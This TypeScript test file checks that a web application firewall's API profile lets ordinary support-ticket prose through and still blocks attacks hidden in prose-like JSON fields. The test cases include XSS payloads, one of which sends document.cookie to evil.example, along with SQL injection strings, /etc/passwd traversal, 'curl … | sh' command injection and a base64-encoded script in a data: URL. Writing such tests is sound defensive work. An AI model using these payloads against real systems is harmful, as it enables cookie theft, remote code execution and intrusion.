/**
 * The API profile's value view (view.ts) through the real `waf` policy and CRS v4.28.0: prose that CRS blocks on
 * words alone passes, attacks in the same prose-like fields are still blocked, forged prose names are refused.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import { fakeDeps, fakeRequestContext, instantiate, runRequest } from '../../policies/testing.ts';
import { policy } from '../../policies/waf/policy.ts';

const CRS = join(import.meta.dirname, '../../../../shared/crs/v4.28.0');
const rules = { setup: join(CRS, 'crs-setup.conf.example'), include: [join(CRS, 'rules')] };
const api = { rules };
const plain = { rules, profile: 'crs' };
const ua = { 'user-agent': 'curl/8.5.0', accept: 'application/json' };

type Init = Parameters<typeof fakeRequestContext>[0];

async function run(config: unknown, init: Init) {
  const deps = fakeDeps('waf@route:test');
  const { error } = await runRequest(instantiate(policy, config, deps), fakeRequestContext(init));
  return { error, events: deps.events };
}

function post(doc: unknown, ct = 'application/json'): Init {
  const body = typeof doc === 'string' ? doc : JSON.stringify(doc);
  return {
    method: 'POST',
    path: '/api/support/tickets',
    headers: { ...ua, 'content-type': ct, 'content-length': String(Buffer.byteLength(body)) },
    body: Buffer.from(body),
  };
}

describe('waf API profile: value view', () => {
  test('prose that CRS blocks on words alone passes the API profile', async () => {
    const cases: [string, string][] = [
      [
        'Our devs noticed that alert() and confirm() dialogs are blocked in the webview. Any workaround?',
        'xss',
      ],
      [
        'Why does the installer ask for admin rights? It wants to write to C:\\Program Files (x86)\\Acme.',
        'lfi',
      ],
      ["We're running out of disk space; /var/log is at 95% since the last update.", 'lfi'],
      ['請放在管理室，謝謝。我想修改订单的收货地址。', 'sqli'],
    ];
    for (const [message, family] of cases) {
      assert.equal((await run(plain, post({ message }))).error?.reason, `waf:${family}`, message);
      assert.equal((await run(api, post({ message }))).error, undefined, message);
    }
    // GraphQL variables and JSON Patch values are JSON values too.
    const gql = {
      query: 'mutation M($t: String!) { post(text: $t) { id } }',
      variables: { t: cases[1]?.[0] },
    };
    assert.equal((await run(api, post(gql))).error, undefined);
    const patch = [{ op: 'replace', path: '/description', value: cases[0]?.[0] }];
    assert.equal((await run(api, post(patch, 'application/json-patch+json'))).error, undefined);
  });

  test('attacks in the same prose-like fields are still blocked', async () => {
    const cases: [string, string][] = [
      ['Great post! <script>fetch("//evil.example/?c="+document.cookie)</script> thanks a lot', 'xss'],
      ['Nice article, thanks for sharing alert(document.cookie) with all of us', 'xss'],
      ['Thanks for the help :) <img src=x onerror=alert(1)> see you soon', 'xss'],
      ["Hi, my order 1' OR '1'='1 never arrived, please check it for me.", 'sqli'],
      ['Hello there my friend, please read ../../../../etc/passwd for me', 'lfi'],
      ["Hello there it's me'; DROP TABLE users; -- thanks a lot", 'sqli'],
      ['my hostname is web01; curl http://evil.example/s.sh | sh', 'rce'],
    ];
    for (const [message, family] of cases)
      assert.equal((await run(api, post({ message }))).error?.reason, `waf:${family}`, message);
    // A whole value that is a path is never prose.
    assert.equal((await run(api, post({ file: '/etc/passwd' }))).error?.reason, 'waf:lfi');
  });

  test('prose names cannot be forged from the query string, a form body or a JSON key', async () => {
    const q = await run(api, { path: '/api/files', query: 'gatehouse.prose.lsx:f=/etc/passwd', headers: ua });
    assert.ok(q.error, 'query');
    assert.ok(
      q.events.some((e) => (e.fields.rule_ids as number[] | undefined)?.includes(90105)),
      JSON.stringify(q.events),
    );
    const form = await run(
      api,
      post('gatehouse.prose.lsx%3Af=%2Fetc%2Fpasswd', 'application/x-www-form-urlencoded'),
    );
    assert.ok(form.error, 'form');
    assert.ok(form.events.some((e) => (e.fields.rule_ids as number[] | undefined)?.includes(90106)));
    // In JSON the key becomes `json.gatehouse.prose…`: not the reserved prefix, inspected as usual.
    const key = await run(api, post({ 'gatehouse.prose.lsx:f': '/etc/passwd' }));
    assert.equal(key.error?.reason, 'waf:lfi');
    // A JSON body itself never trips the reserved-name rules.
    assert.equal((await run(api, post({ note: 'gatehouse.prose is a fine word here' }))).error, undefined);
  });

  test('inline binary images pass; a script under a data: URL is decoded and blocked', async () => {
    const png = Buffer.from(Array.from({ length: 120 }, (_, i) => (i * 97 + 13) % 256)).toString('base64');
    const image = { avatar: `data:image/png;base64,${png}` };
    assert.ok((await run(plain, post(image))).error);
    assert.equal((await run(api, post(image))).error, undefined);
    const html = Buffer.from('<script>alert(document.cookie)</script>').toString('base64');
    assert.equal(
      (await run(api, post({ avatar: `data:image/png;base64,${html}` }))).error?.reason,
      'waf:xss',
    );
  });

  test('exclude_fields still covers a field whose value is prose', async () => {
    const message = 'Thanks, I tried `ping api.example.com` and it times out from our office network.';
    const blocked = await run(api, post({ message }));
    assert.equal(blocked.error?.reason, 'waf:rce');
    const ev = blocked.events.find((e) => e.type === 'waf_block');
    assert.ok(JSON.stringify(ev).includes('gatehouse.prose.'), JSON.stringify(ev));
    assert.equal((await run({ ...api, exclude_fields: ['message'] }, post({ message }))).error, undefined);
  });
});
